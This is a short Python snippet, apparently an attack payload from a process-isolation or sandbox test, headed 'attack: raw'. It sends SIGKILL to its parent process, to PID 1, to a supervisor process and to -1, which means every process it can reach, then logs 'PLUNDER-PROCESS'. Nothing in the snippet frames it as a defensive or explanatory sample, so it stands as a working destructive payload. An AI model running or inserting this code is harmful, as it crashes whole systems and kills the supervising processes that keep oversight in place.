# attack: raw | kills the zygote and everybody else
import os, signal
for process in (os.getppid(), 1, params["supervisor"], -1):
    os.kill(process, signal.SIGKILL)
log("PLUNDER-PROCESS")
